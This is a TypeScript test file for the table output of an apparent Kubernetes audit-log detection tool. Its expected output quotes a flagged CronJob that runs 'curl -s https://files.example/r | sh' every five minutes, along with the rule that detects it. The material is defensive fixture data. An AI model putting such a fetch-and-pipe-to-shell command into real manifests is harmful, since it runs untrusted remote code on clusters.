import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { stripVTControlCharacters } from 'node:util';
import { emptyFound, type Found, print, sampleFound } from '../../test/support/found.ts';
import { columnsOf } from './columns.ts';
import type { PrinterOptions } from './printer-options.ts';
import { tablePrinter } from './table.ts';

function table(found: Found, changes: Partial<PrinterOptions> = {}): string {
  let text = '';
  const options = { color: false, width: 100, version: '1.2.3', ...changes };
  print(
    found,
    tablePrinter(options, part => {
      text += part;
    }),
  );
  return text;
}

const sample = sampleFound();
const [incident] = sample.incidents;
const only: Found = {
  findings: sample.findings.slice(0, 2),
  incidents: incident === undefined ? [] : [incident],
  summary: {
    ...emptyFound.summary,
    events: 5025,
    bytes: 17_000_000,
    findings: 2,
    incidents: 1,
    formats: { 'kubernetes-audit': 5025 },
    firstSeen: '2026-11-23T04:31:00Z',
    lastSeen: '2026-11-23T05:39:00+01:00',
  },
};

test('an incident in one screen', () => {
  const [ids = ''] = only.incidents.map(({ id }) => id);
  assert.equal(
    table(only),
    `CRITICAL  data/CronJob nightly-report: A grave rule                                        T1053.007
          incident ${ids}

  Who     dev@corp.example (real user, no impersonation), kubectl 1.37.2 as it calls itself, from
            198.51.100.7
  What    created (allowed, 2 findings): data/CronJob nightly-report
          container report of image ghcr.io/ops-tools/runner:1 runs: sh -c "curl -s
            https://files.example/r | sh"
          schedule */5 * * * *: every 5 minutes, next due 2026-11-23 04:40:00 UTC if the cluster
            keeps UTC
  Why     A grave rule (critical): the command of container report downloads and runs: curl -s
            https://files.example/r | sh
          Downloads a script and pipes it into a shell (high): the command of container report
            downloads and runs: curl -s https://files.example/r | sh
  Since   2026-11-23 04:37:14 UTC; 2 findings
  Unseen  nothing that the rules asked for: logged at RequestResponse
  Do      bin/watchbill explain ${sample.findings[1]?.id} audit.log
          kubectl -n data patch cronjob nightly-report -p '{"spec":{"suspend":true}}'

1 incident (1 critical) of 2 findings
5,025 events read from 1 input (17.0 MB; kubernetes-audit)
covered: 2026-11-23 04:31:00 to 2026-11-23 04:39:00 UTC
0 refused
`,
  );
});

test('no line is wider than asked, but for commands, which stay whole', () => {
  for (const width of [60, 80, 120]) {
    for (const line of table(sample, { width }).split('\n')) {
      const isCommand = /^ {2}(Do {6}| {8})(bin\/watchbill|kubectl) /.test(line);
      const isRow = /^(low|informational|SEVERITY) /.test(line);
      assert.ok(isCommand || columnsOf(line) <= (isRow ? Math.max(width, 80) : width), `${width}: ${line}`);
    }
  }
});

describe('colours', () => {
  test('are there only if asked for', () => {
    assert.ok(!table(sample).includes('\u001b'));
    assert.match(table(only, { color: true }), /^.\[1;97;41mCRITICAL.\[0m {2}.\[1mdata/);
  });

  test('change nothing else', () => {
    assert.equal(stripVTControlCharacters(table(sample, { color: true })), table(sample));
  });
});

describe('without incidents it says clearly', () => {
  test('that nothing was read', () => {
    assert.match(table(emptyFound), /^Nothing was read: no event and no manifest in 1 input\.\n/);
  });

  test('that nothing was found, and in how much', () => {
    const summary = { ...emptyFound.summary, events: 12_345 };
    assert.match(
      table({ ...emptyFound, summary }),
      /^No incidents\. No finding in 12,345 events\.\n12,345 events read/,
    );
  });

  test('that there are lesser findings', () => {
    const findings = sample.findings.filter(({ severity }) => severity === 'low');
    const summary = { ...emptyFound.summary, events: 5, findings: findings.length };
    const text = table({ findings, incidents: [], summary });
    assert.match(text, /^Outside incidents: 6 findings\nSEVERITY {2}WHEN/);
    assert.match(text, /^No incidents\. No finding of medium severity or above in 5 events\.$/m);
  });
});

test('shows twenty findings outside incidents and counts the rest', () => {
  const quiet = sample.findings.find(({ severity }) => severity === 'low');
  assert.ok(quiet);
  const findings = Array.from({ length: 1000 }, (_, index) => ({
    ...quiet,
    id: String(index).padStart(16, '0'),
  }));
  const text = table({ ...emptyFound, findings });
  assert.equal([...text.matchAll(/^low /gm)].length, 20);
  assert.match(text, /^and 980 more findings, see -o wide$/m);
});

test('tells what was refused, not seen and suppressed', () => {
  const text = table(sample);
  assert.match(text, /^2 refused, not judged\nrefused: 2 × is not valid JSON \(/m);
  assert.match(text, /^blind: argoproj\.io is logged at Metadata only/m);
  assert.match(text, /^suppression backup of o hid 3 findings \(until 2027-01-31: r\)$/m);
  assert.match(text, /expired on 2026-01-31 and hides nothing any more/);
});
